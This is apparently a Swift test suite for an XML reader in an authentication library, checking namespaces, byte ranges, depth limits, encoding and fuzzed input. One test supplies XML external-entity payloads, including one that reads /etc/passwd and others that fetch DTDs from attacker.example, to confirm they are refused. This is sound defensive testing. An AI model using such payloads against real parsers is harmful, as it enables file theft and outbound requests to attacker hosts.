import Foundation
import MSAuth
import MSAuthSystem
import Testing

@Suite struct ExpatReaderTests {
    private func read(_ text: String, sealing sealed: String = "-") throws -> MSAuth.XMLElement {
        try ExpatReader().read(Secret(text), sealing: sealed)
    }

    private func refusal(_ text: String) -> MSAuthError? {
        #expect(throws: MSAuthError.self) { try read(text) }
    }

    @Test("names are resolved in their namespaces, and text is put together")
    func names() throws {
        let root = try read(
            "\u{FEFF}<?xml version=\"1.0\"?><!-- c --><a xmlns='urn:1' xmlns:p='urn:2' x='1' p:x='&lt;2&#x20AC;'>"
                + "t&amp;<p:b>in</p:b><![CDATA[<]]> <b xmlns=''/></a>")
        #expect(root.name == XMLName("urn:1", "a") && root.text == "t&< ")
        #expect(root.attributes == [XMLName("", "x"): "1", XMLName("urn:2", "x"): "<2€"])
        #expect(root.children.map(\.name) == [XMLName("urn:2", "b"), XMLName("", "b")])
        #expect(root.children[0].text == "in")
    }

    @Test("the bytes between an element's tags are known, whatever its letters and prefixes")
    func content() throws {
        let inner = " <x:t  a = 'ü>'\n xmlns:x=\"urn:x\">€<y/>\r\n</x:t>\n"
        let text = "<s:a xmlns:s='urn:s' n='é'><s:b>" + inner + "</s:b ><s:c/><s:d></s:d></s:a>"
        let root = try read(text, sealing: "b")
        let bytes = Array(text.utf8)
        #expect(String(decoding: bytes[root.children[0].content], as: UTF8.self) == inner)
        #expect(root.children[1].content.isEmpty && root.children[2].content.isEmpty)
        // What is sealed is not looked into, and what follows it is.
        #expect(root.children[0].children.isEmpty && root.children[0].text.isEmpty)
        #expect(root.children.map(\.name.local) == ["b", "c", "d"])
    }

    @Test("one sealed element in another ends with the outer one")
    func nested() throws {
        let root = try read("<a><b><b>1</b></b><c>2</c></a>", sealing: "b")
        #expect(root.children.map(\.name.local) == ["b", "c"] && root.children[1].text == "2")
    }

    @Test(
        "a document type is refused, with all that entities can do",
        arguments: [
            "<!DOCTYPE a><a/>",
            "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            "<!DOCTYPE a SYSTEM 'https://attacker.example/x.dtd'><a/>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM 'https://attacker.example/x'> %p;]><a/>",
        ])
    func documentType(_ text: String) {
        let error = refusal(text)
        #expect(error?.status == .untrusted && error?.message.contains("document type") == true)
    }

    @Test(
        "what is not XML in UTF-8 is refused",
        arguments: [
            "", " ", "{}", "<a>", "<a></b>", "<a/><b/>", "<a>&undefined;</a>", "<p:a/>", "<a b='1' b='2'/>",
            "<a\u{0}/>",
            "<a>\u{1}</a>", "<html><br></html>",
        ])
    func malformed(_ text: String) {
        let error = refusal(text)
        #expect(error?.status == .untrusted && error?.message.contains("not XML") == true)
    }

    @Test("bytes that are no UTF-8 are refused, whatever the document says they are")
    func encoding() throws {
        for text in ["<?xml version='1.0' encoding='ISO-8859-1'?><a>\u{E9}</a>", "<a>\u{E9}</a>"] {
            let latin = try #require(text.data(using: .isoLatin1))
            #expect(throws: MSAuthError.self) { try ExpatReader().read(Secret(latin), sealing: "-") }
        }
        let utf16 = try #require("<a/>".data(using: .utf16LittleEndian))
        #expect(throws: MSAuthError.self) { try ExpatReader().read(Secret(utf16), sealing: "-") }
    }

    @Test("depth, elements and attributes are bounded, also in what is sealed")
    func bounded() throws {
        func nested(_ depth: Int) -> String {
            String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        }
        let many = { (count: Int) in "<a>" + String(repeating: "<b/>", count: count) + "</a>" }
        let wide = { (count: Int) in "<a " + (0..<count).map { "b\($0)='1'" }.joined(separator: " ") + "/>" }
        _ = try read(nested(64))
        #expect(try read(many(19_999)).children.count == 19_999)
        #expect(try read(wide(64)).attributes.count == 64)
        for text in [nested(65), nested(100_000), many(20_000), wide(65)] {
            #expect(refusal(text)?.message.contains("too many") == true)
        }
        #expect(throws: MSAuthError.self) { try read(nested(65), sealing: "a") }
    }

    @Test("text in many pieces is one text")
    func pieces() throws {
        #expect(try read("<a>" + String(repeating: "&lt;", count: 5000) + "</a>").text.count == 5000)
    }

    @Test("any bytes are read or refused, and nothing else happens")
    func anyBytes() throws {
        let whole = Array("<s:a xmlns:s='urn:s' n='é'><s:b> <x a='1'>€</x> </s:b><s:c/>&amp;</s:a>".utf8)
        var generator = SystemRandomNumberGenerator()
        for _ in 0..<2000 {
            var bytes = whole
            for _ in 0..<Int.random(in: 1...3, using: &generator) {
                bytes[Int.random(in: 0..<bytes.count, using: &generator)] = UInt8.random(in: 0...255, using: &generator)
            }
            bytes = Array(bytes.prefix(Int.random(in: 0...whole.count, using: &generator)))
            _ = try? ExpatReader().read(Secret(bytes), sealing: "b")
        }
    }
}
